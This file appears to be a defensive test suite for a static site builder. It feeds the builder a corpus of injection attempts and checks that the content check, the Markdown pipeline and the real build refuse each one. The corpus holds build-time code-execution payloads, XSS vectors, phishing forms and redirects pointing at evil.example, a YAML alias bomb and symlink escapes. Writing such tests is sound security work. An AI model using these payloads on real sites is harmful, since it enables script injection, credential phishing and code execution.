@@ -1,0 +1,327 @@
+/**
+ * The injection corpus: attempts to run code at build time, publish script on a trust's site,
+ * send readers elsewhere or publish files from outside the trust's folder. Each is a small
+ * change to a copy of the Harbourside sample trust, and each must be refused:
+ *
+ * - by the content check, with the file, the rule and a fix;
+ * - by the build's own Markdown pipeline (the plugin in astro.config.mjs), for every attempt in a
+ *   page, so the build refuses it even when the check is skipped;
+ * - by the real build command over the whole corpus at once: exit 1, every case reported as
+ *   content, never "a fault in the site builder", and no attempt's code ever runs;
+ * - by a real Astro build with the content check left out entirely (Markdown and MDX).
+ */
+import { execFile } from 'node:child_process';
+import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { promisify } from 'node:util';
+import { markdownToHtml, mdxToJs } from 'satteri';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { checkContent } from '../../src/checks/check-content.ts';
+import { splitFrontMatter } from '../../src/checks/front-matter.ts';
+import type { Problem } from '../../src/checks/problem.ts';
+import { REFUSED_CONTENT_MARKER, refuseUnsafeContent } from '../../src/markdown/refuse-unsafe-content.ts';
+import { repoRoot, runBuild } from '../support/built-sites.ts';
+
+interface Case {
+  name: string;
+  /** The page or file changed, inside the trust folder. */
+  file: string;
+  rule: string;
+  /** The change, made to a copy of Harbourside. */
+  breaks: (dir: string) => void;
+}
+
+const work = mkdtempSync(path.join(tmpdir(), 'strategy-injection-'));
+/** A file the corpus's code tries to write: if it ever exists, content ran code. */
+const canary = path.join(work, 'code-ran');
+
+const edit = (file: string, from: string | RegExp, to: string) => (dir: string) => {
+  const target = path.join(dir, file);
+  const before = readFileSync(target, 'utf8');
+  const after = before.replace(from, to);
+  if (after === before) throw new Error(`The case did not change ${file}`);
+  writeFileSync(target, after);
+};
+/** Adds a paragraph to the MDX home page. */
+const mdx = (text: string) => edit('index.mdx', 'Our strategy explains', `${text}\n\nOur strategy explains`);
+/** Adds a paragraph to a Markdown page. */
+const md = (text: string) => edit('vision.md', 'Our vision describes', `${text}\n\nOur vision describes`);
+const put = (file: string, content: string | Buffer) => (dir: string) => {
+  mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
+  writeFileSync(path.join(dir, file), content);
+};
+
+const cases: Case[] = [
+  // Code in MDX: expressions, at build time
+  { name: 'environment read', file: 'index.mdx', rule: 'mdx-expression', breaks: mdx('Home is {process.env.HOME}.') },
+  {
+    name: 'file system read outside the repository',
+    file: 'index.mdx',
+    rule: 'mdx-expression',
+    breaks: mdx('{process.getBuiltinModule("node:fs").readFileSync("/etc/hostname", "utf8")}'),
+  },
+  {
+    name: 'file system write',
+    file: 'index.mdx',
+    rule: 'mdx-expression',
+    breaks: mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}`),
+  },
+  { name: 'process exit', file: 'index.mdx', rule: 'mdx-expression', breaks: mdx('{process.exit(3)}') },
+  { name: 'eval', file: 'index.mdx', rule: 'mdx-expression', breaks: mdx('{eval("globalThis.process.exit(5)")}') },
+  {
+    name: 'constructor.constructor',
+    file: 'index.mdx',
+    rule: 'mdx-expression',
+    breaks: mdx('{[].constructor.constructor("return process")().exit(4)}'),
+  },
+  { name: 'import', file: 'index.mdx', rule: 'mdx-import', breaks: mdx("import fs from 'node:fs'") },
+  { name: 'export', file: 'index.mdx', rule: 'mdx-import', breaks: mdx('export const secrets = process.env') },
+  {
+    name: 'expression in a component setting',
+    file: 'index.mdx',
+    rule: 'mdx-expression',
+    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout title={process.env.HOME}>'),
+  },
+  {
+    name: 'javascript: built from pieces',
+    file: 'index.mdx',
+    rule: 'mdx-expression',
+    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout title={"java" + "script:alert(1)"}>'),
+  },
+  {
+    name: 'spread attributes',
+    file: 'index.mdx',
+    rule: 'mdx-expression',
+    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout {...globalThis.process}>'),
+  },
+  {
+    name: 'set:html',
+    file: 'index.mdx',
+    rule: 'mdx-attribute',
+    breaks: edit('index.mdx', '<Callout title="How we wrote it">', '<Callout title="Hi" set:html="<script>alert(1)</script>">'),
+  },
+  { name: 'HTML link in MDX', file: 'index.mdx', rule: 'unknown-component', breaks: mdx('<a href="javascript:alert(1)">Click</a>') },
+  { name: 'svg with a slash in MDX', file: 'index.mdx', rule: 'mdx-syntax', breaks: mdx('<svg/onload="alert(1)"></svg>') },
+
+  // Links in Markdown
+  { name: 'javascript: written with entities', file: 'vision.md', rule: 'unsafe-link', breaks: md('[Click](&#106;avascript:alert(1))') },
+  { name: 'reference link', file: 'vision.md', rule: 'unsafe-link', breaks: md('[Click][here]\n\n[here]: javascript:alert(1)') },
+  { name: 'autolink', file: 'vision.md', rule: 'unsafe-link', breaks: md('<javascript:alert(1)>') },
+  {
+    name: 'data: link',
+    file: 'vision.md',
+    rule: 'unsafe-link',
+    breaks: md('[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
+  },
+  { name: 'vbscript: link', file: 'vision.md', rule: 'unsafe-link', breaks: md('[Open](vbscript:msgbox(1))') },
+  { name: 'data: picture', file: 'vision.md', rule: 'unsafe-link', breaks: md('![A chart](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)') },
+
+  // Raw HTML in Markdown
+  {
+    name: 'javascript: with a tab, in HTML',
+    file: 'vision.md',
+    rule: 'unsafe-html',
+    breaks: md('<a href="jav&#x09;ascript:alert(1)">Click</a>'),
+  },
+  { name: 'img onerror', file: 'vision.md', rule: 'unsafe-html', breaks: md('<img src="x" onerror="alert(1)">') },
+  { name: 'svg onload', file: 'vision.md', rule: 'unsafe-html', breaks: md('<svg onload="alert(1)"></svg>') },
+  {
+    name: 'math with a javascript: link',
+    file: 'vision.md',
+    rule: 'unsafe-html',
+    breaks: md('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
+  },
+  { name: 'base', file: 'vision.md', rule: 'unsafe-html', breaks: md('<base href="https://evil.example/">') },
+  {
+    name: 'meta refresh',
+    file: 'vision.md',
+    rule: 'unsafe-html',
+    breaks: md('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
+  },
+  {
+    name: 'form asking for an NHS number',
+    file: 'vision.md',
+    rule: 'unsafe-html',
+    breaks: md('<form action="https://evil.example/"><label>NHS number <input name="nhs"></label><button>Send</button></form>'),
+  },
+  { name: 'iframe srcdoc', file: 'vision.md', rule: 'unsafe-html', breaks: md('<iframe srcdoc="<script>alert(1)</script>"></iframe>') },
+  {
+    name: 'style sheet from another host',
+    file: 'vision.md',
+    rule: 'unsafe-html',
+    breaks: md('<link rel="stylesheet" href="https://evil.example/x.css">'),
+  },
+  {
+    name: 'style attribute covering the page',
+    file: 'vision.md',
+    rule: 'unsafe-html',
+    breaks: md('<a href="https://evil.example/" style="position:fixed;inset:0">Win a prize</a>'),
+  },
+  { name: 'script', file: 'vision.md', rule: 'unsafe-html', breaks: md('<script>alert(1)</script>') },
+
+  // Settings that would make the check or the build run unbounded
+  {
+    name: 'YAML alias bomb',
+    file: 'trust.yaml',
+    rule: 'yaml-syntax',
+    breaks: (dir) => {
+      const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
+      for (let level = 1; level < 9; level++) {
+        const previous = String.fromCharCode(96 + level);
+        const name = String.fromCharCode(97 + level);
+        levels.push(`${name}: &${name} [${Array(9).fill(`*${previous}`).join(',')}]`);
+      }
+      writeFileSync(path.join(dir, 'trust.yaml'), `${readFileSync(path.join(dir, 'trust.yaml'), 'utf8')}${levels.join('\n')}\n`);
+    },
+  },
+  {
+    name: 'very long value',
+    file: 'trust.yaml',
+    rule: 'invalid-field',
+    breaks: edit('trust.yaml', /^shortName: .*$/m, `shortName: ${'Harbour '.repeat(40_000)}`),
+  },
+
+  // Files
+  {
+    name: 'SVG with script',
+    file: 'files/pictures/evil.svg',
+    rule: 'unsafe-svg',
+    breaks: put(
+      'files/pictures/evil.svg',
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>',
+    ),
+  },
+  {
+    name: 'SVG with foreignObject and outside references',
+    file: 'files/pictures/outside.svg',
+    rule: 'unsafe-svg',
+    breaks: put(
+      'files/pictures/outside.svg',
+      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject><image href="https://evil.example/x.png"/></svg>',
+    ),
+  },
+  {
+    name: 'symbolic link out of the repository',
+    file: 'files/secret.txt',
+    rule: 'file-link',
+    breaks: (dir) => symlinkSync('/etc/hostname', path.join(dir, 'files', 'secret.txt')),
+  },
+  {
+    name: 'web page saved as a PDF',
+    file: 'files/report.pdf',
+    rule: 'file-type',
+    breaks: put('files/report.pdf', '<!doctype html><script>alert(1)</script>'),
+  },
+  {
+    name: 'web page in files',
+    file: 'files/page.html',
+    rule: 'file-type',
+    breaks: put('files/page.html', '<!doctype html><script>alert(1)</script>'),
+  },
+];
+
+const slugOf = (index: number) => `case-${String(index + 1).padStart(2, '0')}`;
+const fleet = path.join(work, 'content');
+const checked = new Map<string, Problem[]>();
+
+beforeAll(() => {
+  cases.forEach((testCase, index) => {
+    const dir = path.join(fleet, slugOf(index));
+    cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
+    edit('trust.yaml', /^slug: .*$/m, `slug: ${slugOf(index)}`)(dir);
+    testCase.breaks(dir);
+  });
+  // A whole trust folder that is a link to another trust's content, somewhere outside.
+  symlinkSync(path.join(repoRoot, 'content', 'fenmoor'), path.join(fleet, 'linked-trust'));
+  const problems = checkContent({ contentDir: fleet, displayRoot: work });
+  cases.forEach((testCase, index) => {
+    checked.set(
+      testCase.name,
+      problems.filter((problem) => problem.file.startsWith(`content/${slugOf(index)}/`)),
+    );
+  });
+});
+
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+
+describe('the injection corpus', () => {
+  it('has at least 25 attempts', () => {
+    expect(cases.length).toBeGreaterThanOrEqual(25);
+  });
+
+  it('the check refuses a trust folder that is a link', () => {
+    const problems = checkContent({ contentDir: fleet, displayRoot: work, trusts: ['linked-trust'] });
+    expect(problems).toContainEqual(expect.objectContaining({ file: 'content/linked-trust/', rule: 'file-link', severity: 'error' }));
+  });
+
+  it.each(cases.map((testCase, index) => [testCase.name, testCase, index] as const))('the check refuses: %s', (_name, testCase, index) => {
+    const file = `content/${slugOf(index)}/${testCase.file}`;
+    const problems = checked.get(testCase.name)!;
+    const match = problems.find((problem) => problem.file === file && problem.rule === testCase.rule);
+    expect(match, `expected ${testCase.rule} in ${file}; got ${JSON.stringify(problems, null, 1)}`).toBeDefined();
+    expect(match!.severity).toBe('error');
+    expect(match!.message).toMatch(/remove|write|rename|delete|replace|use|save|shorten|link to|export/i);
+    if (testCase.file.endsWith('.md') || testCase.file.endsWith('.mdx')) expect(match!.line).toBeGreaterThan(5);
+  });
+
+  const pageCases = cases
+    .map((testCase, index) => [testCase.name, testCase, index] as const)
+    .filter(([, testCase]) => /\.mdx?$/.test(testCase.file));
+
+  it.each(pageCases)("the build's Markdown pipeline refuses, with no check: %s", (_name, testCase, index) => {
+    const absolute = path.join(fleet, slugOf(index), testCase.file);
+    const { body } = splitFrontMatter(readFileSync(absolute, 'utf8'));
+    const options = { mdastPlugins: [refuseUnsafeContent(fleet)], fileURL: pathToFileURL(absolute) };
+    const compile = () => (absolute.endsWith('.mdx') ? mdxToJs(body, options) : markdownToHtml(body, options));
+    expect(compile).toThrow(/.+/);
+    try {
+      compile();
+    } catch (error) {
+      // An MDX syntax error is refused by the parser itself; everything else by our rules, in the check's words.
+      if (!/mdx-jsx|Unexpected/.test(String(error)))
+        expect(String(error)).toContain(`${REFUSED_CONTENT_MARKER} content/${slugOf(index)}/${testCase.file}`);
+    }
+  });
+
+  it('the build command refuses every attempt as content, runs none of their code and publishes nothing', async () => {
+    const out = path.join(work, 'dist');
+    const started = performance.now();
+    const build = await runBuild(['--content', fleet, '--out', out]);
+    const output = `${build.stdout}\n${build.stderr}`;
+    console.log(`Build over ${cases.length} corpus trusts: ${((performance.now() - started) / 1000).toFixed(1)} s`);
+    expect(build.code, output).toBe(1);
+    expect(output).not.toContain('fault in the site builder');
+    expect(output).not.toMatch(/at .*\.(ts|js):\d+/);
+    cases.forEach((testCase, index) => {
+      expect(output, testCase.name).toContain(`content/${slugOf(index)}/${testCase.file}`);
+    });
+    expect(existsSync(canary)).toBe(false);
+    expect(existsSync(path.join(out, slugOf(0)))).toBe(false);
+  });
+
+  it('an Astro build with the content check left out still refuses MDX code and raw HTML, and none of the code runs', async () => {
+    const content = path.join(work, 'unchecked', 'content');
+    const dir = path.join(content, 'harbourside');
+    cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
+    mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}\n\n{process.exit(3)}`)(dir);
+    md('<form action="https://evil.example/"><input name="nhs"></form>')(dir);
+    const script = path.join(repoRoot, 'tests', 'support', 'render-without-check.ts');
+    let code = 0;
+    let output = '';
+    try {
+      const result = await promisify(execFile)(process.execPath, [script, content, path.join(work, 'unchecked-out')], { cwd: repoRoot });
+      output = result.stdout;
+    } catch (error) {
+      const failed = error as { code: number; stdout: string; stderr: string };
+      code = failed.code;
+      output = `${failed.stdout}\n${failed.stderr}`;
+    }
+    expect(code, output).toBe(1);
+    expect(output).toContain('refused: content/harbourside/index.mdx (mdx-expression)');
+    expect(output).toContain('refused: content/harbourside/vision.md (unsafe-html)');
+    expect(output).not.toContain('built');
+    expect(existsSync(canary)).toBe(false);
+  });
+});
